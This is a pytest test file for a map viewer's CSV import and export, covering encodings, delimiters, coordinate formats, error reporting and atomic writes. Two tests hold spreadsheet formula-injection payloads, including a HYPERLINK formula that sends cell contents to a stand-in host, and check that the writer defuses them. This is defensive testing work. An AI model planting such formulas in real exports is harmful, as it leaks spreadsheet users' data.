"""CSV: spreadsheets in (lon/lat or WKT columns, any common delimiter and encoding), spreadsheets out."""

from __future__ import annotations

import csv
import io

import pytest
from shared_data import small_bundle

from viewer.io.formats.csv.writer import write_csv
from viewer.io.load import open_path
from viewer.model.problem import BundleError
from viewer.resources import sample_bundle


def write(tmp_path, name: str, text: str, encoding: str = "utf-8"):
    path = tmp_path / name
    path.write_bytes(text.encode(encoding))
    return path


def test_sample_exports_for_spreadsheets_and_reads_back(tmp_path):
    bundle, _ = open_path(sample_bundle())
    path = tmp_path / "launches.csv"
    write_csv(bundle, path)
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # Excel reads UTF-8 only with the mark
    rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    assert len(rows) == len(bundle.features)
    site = next(r for r in rows if r["id"] == "2016-02-07-kms4/launch-site")
    assert (float(site["lon"]), float(site["lat"])) == (124.705, 39.66)
    assert site["event_name"] == "Kwangmyongsong-4 launch"
    quotes = [f"“{c.exact}”" for c in bundle.features[site["id"]].all_citations]
    assert site["quotes"] == " | ".join(quotes)
    again, problems = open_path(path)
    assert problems == []
    assert again.features.keys() == bundle.features.keys()
    for feature_id, feature in bundle.features.items():
        assert again.features[feature_id].geometry.equals_exact(feature.geometry, 0)
        assert again.features[feature_id].kind == feature.kind
    assert {e.id: (e.name, e.time) for e in again.events.values()} == {
        e.id: (e.name, e.time) for e in bundle.events.values()}


def test_formulas_in_text_are_not_run_by_spreadsheets(make_bundle, tmp_path):
    data = small_bundle()
    data["features"][0]["properties"]["label"] = '=HYPERLINK("http://example.com","click")'
    data["features"][1]["properties"]["label"] = "'=already quoted"
    data["features"][1]["properties"]["depth"] = "-5"
    bundle, _ = open_path(make_bundle(data))
    path = tmp_path / "guarded.csv"
    write_csv(bundle, path)
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig")))}
    assert rows["f-site"]["label"] == "'=HYPERLINK(\"http://example.com\",\"click\")"
    assert rows["f-path"]["depth"] == "-5"  # a number is not a formula
    again, _ = open_path(path)
    assert again.features["f-site"].label == '=HYPERLINK("http://example.com","click")'
    assert again.features["f-path"].label == "'=already quoted"


def test_formulas_in_column_names_are_not_run_by_spreadsheets(make_bundle, tmp_path):
    data = small_bundle()
    name = '=HYPERLINK("http://example.com/?"&A1,"click")'
    data["features"][0]["properties"][name] = "x"
    data["features"][0]["properties"]["@sum"] = "y"
    bundle, _ = open_path(make_bundle(data))
    path = tmp_path / "guarded.csv"
    write_csv(bundle, path)
    header = next(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    assert "'" + name in header
    assert "'@sum" in header
    assert not [cell for cell in header if cell.startswith(("=", "+", "-", "@"))]
    again, _ = open_path(path)
    assert again.features["f-site"].properties[name] == "x"
    assert again.features["f-site"].properties["@sum"] == "y"


@pytest.mark.parametrize(("text", "encoding"), [
    ("Name;Latitude;Longitude\nSohae;39,66;124,705\n", "utf-8"),  # European spreadsheet: ; and decimal commas
    ("name\tLAT\tLONG\nSohae\t39.66\t124.705\n", "utf-16"),  # Excel "Unicode text"
    ("name|y|x\r\nSohae|39.66N|124.705E\r\n", "utf-8"),
    ("\ufeffname,lat,lon\nSohae,39.66°,124.705°\n", "utf-8"),
    ('name,WKT\nSohae,"POINT (124.705 39.66)"\n', "utf-8"),
])
def test_header_names_delimiters_and_encodings_are_recognised(tmp_path, text, encoding):
    bundle, problems = open_path(write(tmp_path, "sites.csv", text, encoding))
    assert problems == []
    (feature,) = bundle.features.values()
    assert (feature.geometry.x, feature.geometry.y) == (124.705, 39.66)
    assert feature.label == "Sohae"


def test_rows_become_features_with_file_scoped_ids(tmp_path):
    text = ("id,name,lon,lat,kind,event,event_name,event_time\n"
            "a,Sohae,124.705,39.66,launch_site,ev1,Test launch,2016-02-07T00:30:00Z\n"
            "a,Duplicate id,124.4,21.7,impact_point,ev1,,\n"
            ",No place,,,volcano,,,\n"
            "b,Also no kind,125,30,volcano,,,\n")
    bundle, problems = open_path(write(tmp_path, "rows.csv", text))
    assert list(bundle.features) == ["a", "rows.csv#line3", "rows.csv#line4", "b"]
    assert bundle.features["rows.csv#line4"].geometry is None
    assert bundle.events["ev1"].name == "Test launch"
    assert bundle.events["ev1"].time == "2016-02-07T00:30:00Z"
    assert bundle.features["rows.csv#line3"].event == "ev1"
    assert [str(p) for p in problems] == [
        f"{tmp_path / 'rows.csv'}: warning: 1 row without coordinates: listed, but not on the map",
        f"{tmp_path / 'rows.csv'}:4: warning: unknown kind 'volcano'; drawn as a reference place",
    ]


def test_every_bad_row_is_reported_in_file_order(tmp_path):
    text = "name,lon,lat\nok,124,39\nbad lat,124,north\nswapped,39,124\nbad lon,east,39\n"
    with pytest.raises(BundleError) as raised:
        open_path(write(tmp_path, "rows.csv", text))
    assert [(p.where, p.message.split(" (")[0]) for p in raised.value.problems] == [
        ("3", "latitude 'north' is not a number of degrees"),
        ("4", "latitude 124 out of range"),
        ("5", "longitude 'east' is not a number of degrees"),
    ]


def test_reading_stops_after_fifty_errors(tmp_path):
    text = "name,lon,lat\n" + "".join(f"row {i},x,y\n" for i in range(500))
    with pytest.raises(BundleError) as raised:
        open_path(write(tmp_path, "rows.csv", text))
    assert len(raised.value.problems) == 51
    assert raised.value.problems[-1].message == "50 errors; stopped reading"


def test_write_is_atomic(tmp_path, monkeypatch):
    from viewer.io.formats.csv import writer as csv_export

    bundle, _ = open_path(sample_bundle())
    path = tmp_path / "launches.csv"
    path.write_text("the previous export\n")
    calls = {"n": 0}
    row = csv_export._row

    def failing(*args):
        calls["n"] += 1
        if calls["n"] == 5:
            raise OSError("disk full")
        return row(*args)

    monkeypatch.setattr(csv_export, "_row", failing)
    with pytest.raises(OSError, match="disk full"):
        write_csv(bundle, path)
    assert path.read_text() == "the previous export\n"
    assert [p.name for p in tmp_path.iterdir()] == ["launches.csv"]


def test_degrees_minutes_seconds_as_spreadsheets_write_them(tmp_path):
    """An analyst's sheet gave 'Latitude' 39°39'36"N and 'Longitude' 124°42'19"E (with primes): refused as 'not a
    number of degrees', though the window's Add from coordinates reads exactly that."""
    text = ("Name,Latitude,Longitude\n"
            "Sohae,39°39\u203236\u2033N,124°42\u203219\u2033E\n"
            "Jeju,\"33° 29' 24\"\" N\",\"126° 31' 48\"\" E\"\n"
            "Plain,33.5,126.5\n"
            "West and south,33-30S,070-15W\n")
    bundle, problems = open_path(write(tmp_path, "sites.csv", text))
    assert problems == []
    points = {f.label or f.properties.get("Name"): (round(f.geometry.x, 4), round(f.geometry.y, 4))
              for f in bundle.features.values()}
    assert points == {"Sohae": (124.7053, 39.66), "Jeju": (126.53, 33.49), "Plain": (126.5, 33.5),
                      "West and south": (-70.25, -33.5)}


def test_a_position_in_the_wrong_column_is_still_refused(tmp_path):
    text = ("Name,Latitude,Longitude\nSwapped,124°42\u203219\u2033E,39°39\u203236\u2033N\n"
            "No letters,39°39\u203236\u2033,124°42\u203219\u2033\n")
    with pytest.raises(BundleError) as raised:
        open_path(write(tmp_path, "sites.csv", text))
    assert [(p.where, p.message.split(" (")[0]) for p in raised.value.problems] == [
        ("2", "longitude '39°39\u203236\u2033N' is not a number of degrees"),
        ("3", "longitude '124°42\u203219\u2033' is not a number of degrees"),
    ]
